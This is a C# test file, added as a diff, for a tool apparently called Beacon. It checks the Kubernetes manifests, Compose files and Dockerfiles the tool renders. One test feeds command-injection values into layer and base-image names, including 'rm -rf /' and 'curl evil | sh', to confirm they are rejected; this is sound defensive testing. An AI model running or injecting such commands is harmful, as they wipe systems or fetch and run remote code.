@@ -1,0 +1,204 @@
+using Beacon.Images.Building;
+using Beacon.Images.Naming;
+using Beacon.Layers.Loading;
+using Beacon.TestSupport;
+using k8s;
+using k8s.Models;
+using YamlDotNet.RepresentationModel;
+
+namespace Beacon.Pulumi.Tests.Targets;
+
+/// <summary>
+/// The files a team uses without Pulumi. No Kubernetes API server can run here, so manifests are checked by strict
+/// parsing with KubernetesClient (unknown fields rejected) plus the invariants an API server would enforce; no
+/// Docker engine runs in these unit tests, so compose files are checked against the Compose keys Beacon emits.
+/// </summary>
+public class RenderedFilesTests
+{
+    private static Workspace Example() => WorkspaceLoader.Load(RepoPaths.Root).Workspace!;
+
+    public static TheoryData<string> Stacks() => ["acme-local", "acme-aws-prod", "acme-gcp-dev", "globex-azure-prod", "globex-k8s"];
+
+    [Theory]
+    [MemberData(nameof(Stacks))]
+    public void Kubernetes_manifests_parse_strictly_and_are_consistent(string stack)
+    {
+        var workspace = Example();
+        var files = Rendering.Files(workspace, workspace.Stack(stack)!);
+        var manifests = files.Where(f => f.Key.StartsWith("kubernetes/", StringComparison.Ordinal)).ToList();
+        Assert.NotEmpty(manifests);
+        var kinds = new List<string>();
+        foreach (var (name, text) in manifests)
+        {
+            var objects = KubernetesYaml.LoadAllFromString(text, strict: true);
+            foreach (var obj in objects)
+            {
+                switch (obj)
+                {
+                    case V1Deployment d:
+                        Assert.Equal(d.Spec.Selector.MatchLabels.OrderBy(kv => kv.Key), d.Spec.Template.Metadata.Labels.Where(kv => d.Spec.Selector.MatchLabels.ContainsKey(kv.Key)).OrderBy(kv => kv.Key));
+                        Assert.All(d.Spec.Template.Spec.Containers, c => Assert.False(string.IsNullOrEmpty(c.Image)));
+                        Assert.True(d.Spec.Template.Spec.SecurityContext.RunAsNonRoot);
+                        kinds.Add("Deployment");
+                        break;
+                    case V1Job j:
+                        Assert.Equal("Never", j.Spec.Template.Spec.RestartPolicy);
+                        Assert.All(j.Spec.Template.Spec.Containers, c => Assert.False(string.IsNullOrEmpty(c.Image)));
+                        kinds.Add("Job");
+                        break;
+                    case V1CronJob cj:
+                        Assert.Equal(5, cj.Spec.Schedule.Split(' ').Length);
+                        Assert.All(cj.Spec.JobTemplate.Spec.Template.Spec.Containers, c => Assert.False(string.IsNullOrEmpty(c.Image)));
+                        kinds.Add("CronJob");
+                        break;
+                    case V1Service s:
+                        Assert.NotEmpty(s.Spec.Selector);
+                        kinds.Add("Service");
+                        break;
+                    case V1Namespace:
+                        kinds.Add("Namespace");
+                        break;
+                    default:
+                        Assert.Fail($"{name}: unexpected object {obj.GetType().Name}");
+                        break;
+                }
+            }
+        }
+        Assert.Contains("Deployment", kinds);
+        Assert.Contains("CronJob", kinds);
+        Assert.Contains("Service", kinds);
+    }
+
+    [Fact]
+    public void A_gpu_workload_requests_a_gpu_and_tolerates_the_gpu_taint()
+    {
+        var workspace = Example();
+        var text = Rendering.Files(workspace, workspace.Stack("acme-aws-prod")!)["kubernetes/beacon.yaml"];
+        var job = KubernetesYaml.LoadAllFromString(text, strict: true).OfType<V1Job>().Single(j => j.Metadata.Name == "model-training");
+        var pod = job.Spec.Template.Spec;
+        Assert.Equal("1", pod.Containers[0].Resources.Limits["nvidia.com/gpu"].ToString());
+        Assert.Contains(pod.Tolerations, t => t.Key == "nvidia.com/gpu" && t.Effect == "NoSchedule");
+        Assert.Equal("gpu", pod.NodeSelector["beacon.io/hardware"]);
+        Assert.Equal("gpu-ml", job.Metadata.Labels["beacon.io/layer"]);
+    }
+
+    /// <summary>The Compose keys Beacon emits, written from the Compose specification; anything else fails.</summary>
+    private static readonly Dictionary<string, string[]> ComposeKeys = new()
+    {
+        ["$"] = ["name", "services", "networks"],
+        ["service"] = ["image", "command", "environment", "ports", "networks", "restart", "healthcheck", "deploy"],
+        ["healthcheck"] = ["test", "interval", "timeout", "retries"],
+        ["deploy"] = ["replicas", "resources"],
+        ["resources"] = ["limits", "reservations"],
+        ["limits"] = ["cpus", "memory"],
+        ["reservations"] = ["devices"],
+        ["device"] = ["driver", "count", "capabilities"],
+        ["network"] = ["name"],
+    };
+
+    [Fact]
+    public void Compose_files_use_only_compose_keys_publish_on_loopback_and_reserve_gpus()
+    {
+        var workspace = Example();
+        var files = Rendering.Files(workspace, workspace.Stack("acme-local")!).Where(f => f.Key.StartsWith("compose/", StringComparison.Ordinal)).ToList();
+        Assert.Equal(["compose/beacon.yaml", "compose/pricing.yaml"], files.Select(f => f.Key));
+        foreach (var (name, text) in files)
+        {
+            var yaml = new YamlStream();
+            yaml.Load(new StringReader(text));
+            var root = (YamlMappingNode)yaml.Documents[0].RootNode;
+            Keys(root, "$", name);
+            foreach (var (_, service) in ((YamlMappingNode)root["services"]).Children)
+            {
+                var s = (YamlMappingNode)service;
+                Keys(s, "service", name);
+                if (s.Children.TryGetValue(new YamlScalarNode("ports"), out var ports))
+                {
+                    Assert.All(((YamlSequenceNode)ports).Children, p => Assert.StartsWith("127.0.0.1:", ((YamlScalarNode)p).Value, StringComparison.Ordinal));
+                    Keys((YamlMappingNode)s["healthcheck"], "healthcheck", name);
+                }
+                var deploy = (YamlMappingNode)s["deploy"];
+                Keys(deploy, "deploy", name);
+                var resources = (YamlMappingNode)deploy["resources"];
+                Keys(resources, "resources", name);
+                Keys((YamlMappingNode)resources["limits"], "limits", name);
+                if (resources.Children.TryGetValue(new YamlScalarNode("reservations"), out var reservations))
+                {
+                    Keys((YamlMappingNode)reservations, "reservations", name);
+                    foreach (var device in ((YamlSequenceNode)((YamlMappingNode)reservations)["devices"]).Children)
+                    {
+                        Keys((YamlMappingNode)device, "device", name);
+                    }
+                }
+            }
+            foreach (var (_, network) in ((YamlMappingNode)root["networks"]).Children)
+            {
+                Keys((YamlMappingNode)network, "network", name);
+            }
+        }
+        Assert.Contains("driver: nvidia", files.Single(f => f.Key == "compose/beacon.yaml").Value, StringComparison.Ordinal);
+        Assert.Contains("name: beacon-pricing", files.Single(f => f.Key == "compose/pricing.yaml").Value, StringComparison.Ordinal);
+    }
+
+    private static void Keys(YamlMappingNode map, string kind, string file)
+    {
+        foreach (var key in map.Children.Keys.Select(k => ((YamlScalarNode)k).Value!))
+        {
+            Assert.True(ComposeKeys[kind].Contains(key), $"{file}: '{key}' is not a Compose key Beacon may emit under {kind}");
+        }
+    }
+
+    [Fact]
+    public void Dockerfiles_of_a_root_and_a_child()
+    {
+        var workspace = Example();
+        var files = Rendering.Files(workspace, workspace.Stack("acme-local")!);
+        Snapshot.Match(files["build/core/Dockerfile"].Replace(GitRevision(files["build/core/Dockerfile"]), "<commit>", StringComparison.Ordinal), "dockerfile-root");
+        Snapshot.Match(files["build/snowflake/Dockerfile"].Replace(GitRevision(files["build/snowflake/Dockerfile"]), "<commit>", StringComparison.Ordinal), "dockerfile-child");
+        var delta = Conda.Locks.ExplicitLock.Parse(files["build/snowflake/snowflake.delta.lock"]).Value!;
+        var full = Conda.Locks.ExplicitLock.Parse(File.ReadAllText(RepoPaths.RepoFile("layers", "snowflake.lock"))).Value!;
+        var core = Conda.Locks.ExplicitLock.Parse(File.ReadAllText(RepoPaths.RepoFile("layers", "core.lock"))).Value!;
+        Assert.Equal(full.Packages.Count - core.Packages.Count, delta.Packages.Count);
+        Assert.DoesNotContain(delta.Packages, p => core.Packages.Any(c => c.DistString == p.DistString));
+    }
+
+    private static string GitRevision(string dockerfile) =>
+        dockerfile.Split('\n').Single(l => l.Contains("image.revision", StringComparison.Ordinal)).Split('"')[1];
+
+    [Theory]
+    [InlineData("core; rm -rf /", "debian:12")]
+    [InlineData("core\nRUN evil", "debian:12")]
+    [InlineData("core", "debian:12\nRUN curl evil | sh")]
+    [InlineData("core", "debian:12; rm -rf /")]
+    public void Hostile_values_are_rejected_before_rendering(string layer, string baseImage)
+    {
+        var lockFile = Conda.Locks.ExplicitLock.Parse("@EXPLICIT\n").Value!;
+        Assert.Throws<ArgumentException>(() => BuildContext.ForRoot(layer, baseImage, lockFile, "@EXPLICIT\n", "unknown"));
+        if (layer != "core")
+        {
+            Assert.Throws<ArgumentException>(() => ImageReference.ForLayer("127.0.0.1:5000", layer, "tag"));
+        }
+    }
+
+    [Fact]
+    public void An_unrelated_change_leaves_the_program_unchanged_and_a_lock_change_retags_only_its_subtree()
+    {
+        using var repo = new TempRepo();
+        repo.CopyExample();
+        string Program() => Synthesizer.Synthesize(WorkspaceLoader.Load(repo.Root).Workspace!, WorkspaceLoader.Load(repo.Root).Workspace!.Stack("acme-gcp-dev")!).Program;
+        var before = Program();
+        File.WriteAllText(repo.Path_("layers/core.yaml"), File.ReadAllText(repo.Path_("layers/core.yaml")).Replace("Acme's production Python", "Acme's Python", StringComparison.Ordinal));
+        File.WriteAllText(repo.Path_("README.md"), "unrelated");
+        Assert.Equal(before, Program());
+
+        var plan = Synthesizer.Synthesize(WorkspaceLoader.Load(repo.Root).Workspace!, WorkspaceLoader.Load(repo.Root).Workspace!.Stack("acme-local")!).Plan;
+        var tags = plan.Images.ToDictionary(i => i.Layer, i => i.Context.Tag);
+        File.AppendAllText(repo.Path_("layers/gpu-ml.lock"), "\n");
+        var after = Synthesizer.Synthesize(WorkspaceLoader.Load(repo.Root).Workspace!, WorkspaceLoader.Load(repo.Root).Workspace!.Stack("acme-local")!).Plan
+            .Images.ToDictionary(i => i.Layer, i => i.Context.Tag);
+        Assert.Equal(tags["core"], after["core"]);
+        Assert.Equal(tags["snowflake"], after["snowflake"]);
+        Assert.NotEqual(tags["gpu-ml"], after["gpu-ml"]);
+        Assert.NotEqual(tags["gpu-ml-nightly"], after["gpu-ml-nightly"]);
+    }
+}
